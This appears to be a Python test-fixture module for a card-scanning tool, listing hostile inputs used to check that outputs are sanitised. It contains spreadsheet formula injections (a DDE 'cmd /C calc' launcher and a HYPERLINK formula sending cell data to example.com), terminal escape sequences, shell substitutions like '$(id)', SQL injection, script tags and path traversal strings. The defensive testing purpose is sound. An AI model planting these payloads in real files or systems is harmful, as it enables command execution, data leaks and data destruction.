"""Texts that mean harm to some format, and what no output may show of them."""

import json
import os
import re
import unicodedata
from pathlib import Path

_CORPUS = Path(os.environ.get("CARDSCAN_CORPORA", ""), "text", "blns.json")

FORMULAS = (
    "=1+1", "+1", "-2*3", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!'A1'", "\t=1", "\r=1",
    "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=         cmd|' /C calc'!A0",
    '"=1"', ";=1", "'=1", ",=1", '=HYPERLINK("https://example.com/?d="&A1,"c")', "\u200b=1",
    "\ufeff=1", "\u00a0=1", "+49-30-23125", "+1/2",
)  # fmt: skip
"""What spreadsheets compute, or would once what stands before it is gone."""

BREAKS = tuple(
    f"x{line_break}{line}"
    for line_break in ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\v", "\f", "\x1c", "\\n")
    for line in ("EMAIL:evil@example.com", "END:VCARD\r\nBEGIN:VCARD", "END:VEVENT", "a\tb\tc")
)
"""What begins a line of its own in one format or another."""

ESCAPES = (
    "\x1b[2J\x1b[H", "\x1b[5;8mblink", "\x1b]0;title\x07", "\x1b]8;;https://example.com\x1b\\x",
    "\x1b]52;c;eA==\x07", "\x9b31m", "\x9d0;title\x9c", "\x1bP1$x\x1b\\", "\x07", "\x08\x08\x08x",
    "a\rb", "\x7f", "a\0b", "\u202eexe.gpj", "\u2066x\u2069", "\u061cx", "x\u200by\u200dz\ufeff",
    "\u00adx", "\U000e0041\U000e007f", "\ud800", "\udcff.jpg", "x\udc00\ud83d", "\ufffe",
    "\U0010fffe", "\ue000",
)  # fmt: skip
"""What steers a terminal, turns text about, or is no character."""

MARKUP = (
    "[/bold]", "[bold]x", "[link=file:///etc/passwd]x[/link]", ":smile:", "{}", "{0}", "{x!r}",
    "%s", "%n", "%(x)s", "$HOME", "`id`", "$(id)", "'; DROP TABLE contacts; --", '" OR NEAR(',
    "%_\\", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&amp;", "]]>", "--x",
    "-rf", "../../x", "/etc/x", "CON", ".", "a;b,c:d", 'WORK"', "^n^'", "item1.x", "TEL;TYPE=x:+1",
    "BEGIN:VCARD", "=0D=0A", "\\", "\\\\n", "'", '"', "a, b; c", "x" * 300, "\u0301",
    "e\u0301" * 50,
)  # fmt: skip
"""What means something to templates, shells, SQL, HTML, paths or vCard."""

OURS = FORMULAS + BREAKS + ESCAPES + MARKUP

CORPUS: tuple[str, ...] = (
    tuple(json.loads(_CORPUS.read_text(encoding="utf-8"))) if _CORPUS.is_file() else ()
)
"""The Big List of Naughty Strings; () where CARDSCAN_CORPORA has no text/blns.json."""

WITHOUT = "CARDSCAN_CORPORA has no text/blns.json"
"""Why its tests are skipped then."""

_COLOURS = re.compile(r"\x1b\[[0-9;]*m")
_HIDDEN = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")


def find_hidden(shown: str, allowed: str = "\n") -> set[str]:
    """The characters that cannot be seen or steer a terminal; colours are let through."""
    bare = _COLOURS.sub("", shown)
    return {one for one in bare if unicodedata.category(one) in _HIDDEN and one not in allowed}
